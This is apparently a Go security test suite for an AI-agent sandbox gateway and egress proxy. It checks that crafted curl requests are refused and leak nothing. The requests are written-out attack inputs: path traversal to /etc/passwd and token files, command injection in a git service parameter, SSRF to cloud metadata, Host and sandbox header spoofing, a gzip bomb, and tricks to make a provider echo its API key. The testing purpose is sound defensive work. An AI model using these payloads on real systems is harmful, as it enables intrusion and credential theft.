package attack

import (
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"

	squad "agentsquad"
	"agentsquad/client"
)

// ask is a request that the attacker sends to the gateway by hand. The answer must
// be a refusal, and nothing of the server's may be in it.
type ask struct {
	name string
	curl string // arguments of curl
	not  string // what may not be in the answer
}

// asks go to http://squad.internal/; $PORT is the server's own port on the host,
// $OTHER another sandbox.
var asks = []ask{
	{"the API behind the gateway", `http://squad.internal/api/v1/tasks`, `"items"`},
	{"path with dots", `--path-as-is http://squad.internal/git/../api/v1/tasks`, `"items"`},
	{"path with coded dots", `--path-as-is http://squad.internal/git/%2e%2e/api/v1/tasks`, `"items"`},
	{"path with two slashes", `--path-as-is http://squad.internal//api/v1/tasks`, `"items"`},
	{"tools with dots", `--path-as-is -X POST -d {} http://squad.internal/mcp/../api/v1/tasks`, `"items"`},
	{"file of the server by dots", `--path-as-is "http://squad.internal/git/../../../../etc/passwd/info/refs?service=git-upload-pack"`, "root:"},
	{"file of the server by coded dots", `--path-as-is "http://squad.internal/git/..%2f..%2f..%2fadmin.token/info/refs?service=git-upload-pack"`, "squad_"},
	{"another squad's repository", `"http://squad.internal/git/$SAFE.git/info/refs?service=git-upload-pack"`, "refs/heads"},
	{"another squad's repository by name", `"http://squad.internal/git/safe.git/info/refs?service=git-upload-pack"`, "refs/heads"},
	{"another squad's repository behind its own", `--path-as-is "http://squad.internal/git/$SHOP.git/../$SAFE.git/info/refs?service=git-upload-pack"`, "refs/heads"},
	{"git without smart protocol", `http://squad.internal/git/$SHOP.git/info/refs`, "refs/heads"},
	{"git's files", `http://squad.internal/git/$SHOP.git/config`, "[core]"},
	{"git's head", `http://squad.internal/git/$SHOP.git/HEAD`, "ref:"},
	{"git's objects", `http://squad.internal/git/$SHOP.git/objects/info/packs`, "pack-"},
	{"a service that is none", `"http://squad.internal/git/$SHOP.git/info/refs?service=git-upload-archive"`, "refs/heads"},
	{"a service with a program", `"http://squad.internal/git/$SHOP.git/info/refs?service=git-upload-pack%3bid"`, "uid="},
	{"a service twice", `"http://squad.internal/git/$SHOP.git/info/refs?service=x&service=git-upload-pack"`, "refs/heads"},
	{"an archive", `-X POST --data-binary 0000 http://squad.internal/git/$SHOP.git/git-upload-archive`, "PACK"},
	{"push as a read", `-X POST --data-binary 0000 "http://squad.internal/git/$TOOLS.git/git-receive-pack"`, "unpack ok"},
	{"a packet that is none", `-X POST --data-binary zzzz http://squad.internal/git/$SHOP.git/git-receive-pack`, "unpack ok"},
	{"gzip that never ends", `-X POST -H "Content-Encoding: gzip" --data-binary @/tmp/bomb.gz http://squad.internal/llm/anthropic/v1/messages`, "content"},
	{"metrics of the server", `http://squad.internal/metrics`, "go_goroutines"},
	{"profiles of the server", `http://squad.internal/debug/pprof/heap`, "alloc"},
	{"a host header of the server", `-H "Host: 127.0.0.1:$PORT" http://squad.internal/api/v1/tasks`, `"items"`},
	{"a host header of another sandbox", `-H "Host: 49983-$OTHER.localhost" http://squad.internal/files?path=/etc/passwd`, "root:"},
	{"headers of another sandbox", `-H "E2b-Sandbox-Id: $OTHER" -H "E2b-Sandbox-Port: 49983" "http://squad.internal/files?path=/etc/passwd"`, "root:"},
	{"sandboxes' API through the tools", `-X POST -d {} -H "E2b-Sandbox-Id: $OTHER" -H "E2b-Sandbox-Port: 49983" http://squad.internal/mcp`, "root:"},
	{"an absolute address of the server", `--request-target http://127.0.0.1:$PORT/api/v1/tasks http://squad.internal/`, `"items"`},
	{"an absolute address of another host", `--request-target http://169.254.169.254/latest/meta-data/ http://squad.internal/`, "ami"},
	{"a tunnel through the gateway", `-X CONNECT --request-target 127.0.0.1:$PORT http://squad.internal/`, `"items"`},
	{"the server through the proxy", `-x http://127.0.0.1:3128 --noproxy "" http://127.0.0.1:$PORT/api/v1/version`, "version"},
	{"the server by name", `-x http://127.0.0.1:3128 --noproxy "" http://localhost:$PORT/api/v1/version`, "version"},
	{"the server by a number", `-x http://127.0.0.1:3128 --noproxy "" http://2130706433:$PORT/api/v1/version`, "version"},
	{"the server in the new form", `-x http://127.0.0.1:3128 --noproxy "" "http://[::ffff:127.0.0.1]:$PORT/api/v1/version"`, "version"},
	{"the server by nowhere", `-x http://127.0.0.1:3128 --noproxy "" http://0.0.0.0:$PORT/api/v1/version`, "version"},
	{"the server through a tunnel", `-p -x http://127.0.0.1:3128 --noproxy "" http://127.0.0.1:$PORT/api/v1/version`, "version"},
	{"the cloud's metadata", `-x http://127.0.0.1:3128 --noproxy "" http://169.254.169.254/latest/meta-data/`, "ami"},
	{"the forge past the gateway", `-x http://127.0.0.1:3128 --noproxy "" "$UPSTREAM/shop.git/info/refs?service=git-upload-pack"`, "refs/heads"},
	{"the model's provider past the gateway", `-x http://127.0.0.1:3128 --noproxy "" "$MODEL/v1/models"`, "told"},
	{"another website", `-x http://127.0.0.1:3128 --noproxy "" https://example.org/`, "Example"},
}

// modelAsks reach the provider, which tells all it was told. They may succeed; the
// key may not be in the answer.
var modelAsks = []ask{
	{"words of the provider about a bad request", `-A echo-400 -d '{"model":"claude-sonnet-4-5","max_tokens":5}' http://squad.internal/llm/anthropic/v1/messages`, ""},
	{"words of the provider about a bad key", `-A echo-401 -d '{"model":"claude-sonnet-4-5","max_tokens":5}' http://squad.internal/llm/anthropic/v1/messages`, ""},
	{"a good answer", `-A echo-200 -d '{"model":"claude-sonnet-4-5","max_tokens":5}' http://squad.internal/llm/anthropic/v1/messages`, ""},
	{"a stream", `-A echo-stream -d '{"model":"claude-sonnet-4-5","max_tokens":5,"stream":true}' http://squad.internal/llm/anthropic/v1/messages`, ""},
	{"a list of models", `-A echo-200 http://squad.internal/llm/openai/v1/models`, ""},
	{"an answer of OpenAI", `-A echo-200 -d '{"model":"gpt-4o","messages":[]}' http://squad.internal/llm/openai/v1/chat/completions`, ""},
	{"a redirect with the key", `-L --max-redirs 3 -A redirect -d '{"model":"claude-sonnet-4-5","max_tokens":5}' http://squad.internal/llm/anthropic/v1/messages`, ""},
	{"headers that ask for the key", `-A echo-400 -H "X-Api-Key: echo" -H "Authorization: Bearer echo" -H "Forwarded: for=1" -H "Connection: X-Api-Key" -d '{"model":"claude-sonnet-4-5","max_tokens":5}' http://squad.internal/llm/anthropic/v1/messages`, ""},
	{"another path of the provider", `-A echo-200 http://squad.internal/llm/anthropic/v1/organizations/api_keys`, "told"},
	{"a path with dots of the provider", `--path-as-is -A echo-200 http://squad.internal/llm/anthropic/v1/models/../organizations/api_keys`, "told"},
	{"a path with coded dots of the provider", `--path-as-is -A echo-200 http://squad.internal/llm/anthropic/v1/models/%2e%2e%2forganizations`, "told"},
	{"another provider's host", `--path-as-is -A echo-200 -H "Host: api.example.org" http://squad.internal/llm/@evil.example/v1/models`, "told"},
}

func (h *house) webAttacks(t *testing.T) {
	t.Helper()
	if out, code := h.inside(t, "user", `head -c 200000000 /dev/zero | gzip -1 > /tmp/bomb.gz`); code != 0 {
		t.Fatal(out)
	}
	server, err := url.Parse(h.URL())
	h.must(err)
	names := fmt.Sprintf("export PORT=%s OTHER=%s UPSTREAM=%s MODEL=%s\n", server.Port(), "isomeothersandbox00", h.upstream.URL, h.model.url)
	for _, a := range asks {
		t.Run(a.name, func(t *testing.T) {
			out, code := h.inside(t, "user", names+`curl -sS -i -m 20 -w '\nstatus %{http_code}\n' `+a.curl)
			if code == 0 && !strings.Contains(out, "status 4") && !strings.Contains(out, "status 5") {
				t.Errorf("it was answered:\n%s", out)
			}
			if strings.Contains(out, a.not) {
				t.Errorf("the answer holds %q:\n%s", a.not, out)
			}
		})
	}
	for _, a := range modelAsks {
		t.Run(a.name, func(t *testing.T) {
			out, code := h.inside(t, "user", names+`curl -sS -i -m 20 `+a.curl)
			if a.not != "" && strings.Contains(out, a.not) {
				t.Errorf("the answer holds %q:\n%s", a.not, out)
			}
			if code != 0 {
				t.Errorf("no answer:\n%s", out)
			}
		})
	}
	t.Run("names on the lists are let through", h.allowed)
	t.Run("refused connections are told", h.refusalsTold)
	t.Run("nothing of the sandbox's reaches the provider as a credential", func(t *testing.T) {
		h.model.mu.Lock()
		defer h.model.mu.Unlock()
		if len(h.model.seen) == 0 {
			t.Fatal("no request reached the provider: the test proves nothing")
		}
		for _, seen := range h.model.seen {
			if text := fmt.Sprint(seen); strings.Contains(text, "echo]") && strings.Contains(text, "X-Api-Key:[echo]") || seen.Get("Forwarded") != "" {
				t.Errorf("headers %v", seen)
			}
		}
	})
}

// allowed asks for names that are on the squad's and the template's list and lead
// nowhere: the answer is the network's, not a rule's.
func (h *house) allowed(t *testing.T) {
	for name, allowed := range map[string]bool{
		"squads.invalid": true, "x.below.invalid": true, "template.invalid": true, "below.invalid": false, "github.com": false, "squads.invalid:22": false,
	} {
		out, _ := h.inside(t, "user", `curl -sS -i -m 20 -x http://127.0.0.1:3128 --noproxy "" http://`+name+`/`)
		if refused := strings.Contains(out, "refused by rule"); refused == allowed {
			t.Errorf("%s: refused is %v\n%s", name, refused, out)
		}
	}
}

// refusalsTold reads the events of what was refused.
func (h *house) refusalsTold(t *testing.T) {
	var told strings.Builder
	for e, err := range h.StoredEvents(t.Context(), client.EventQuery{SandboxID: h.sandbox.ID, Types: []squad.EventType{squad.EventEgressRefused}}) {
		h.must(err)
		told.Write(e.Payload)
	}
	for _, host := range []string{"example.org", "169.254.169.254", "github.com"} {
		if !strings.Contains(told.String(), host) {
			t.Errorf("%s is not told:\n%s", host, told.String())
		}
	}
}

// answer tells the caller all that the provider was told, as its User-Agent says.
func (p *provider) answer(w http.ResponseWriter, r *http.Request) {
	told := strings.NewReplacer(`"`, `'`, "\n", " ").Replace(fmt.Sprintf("told %v", r.Header))
	switch r.UserAgent() {
	case "echo-400":
		w.Header().Set("X-Told", told)
		http.Error(w, told, http.StatusBadRequest)
	case "echo-401":
		http.Error(w, told, http.StatusUnauthorized)
	case "redirect":
		key := r.Header.Get("X-Api-Key")
		http.Redirect(w, r, "http://squad.internal/llm/anthropic/v1/models?key="+key, http.StatusFound)
	case "echo-stream":
		w.Header().Set("Content-Type", "text/event-stream")
		fmt.Fprintf(w, "event: message_start\ndata: {\"type\":\"message_start\",\"message\":{\"usage\":{\"input_tokens\":3}},\"text\":\"%s\"}\n\n", told)
		fmt.Fprint(w, "event: message_delta\ndata: {\"type\":\"message_delta\",\"usage\":{\"output_tokens\":2}}\n\n")
	default:
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprintf(w, `{"text":"%s","usage":{"input_tokens":3,"output_tokens":2}}`, told)
	}
}
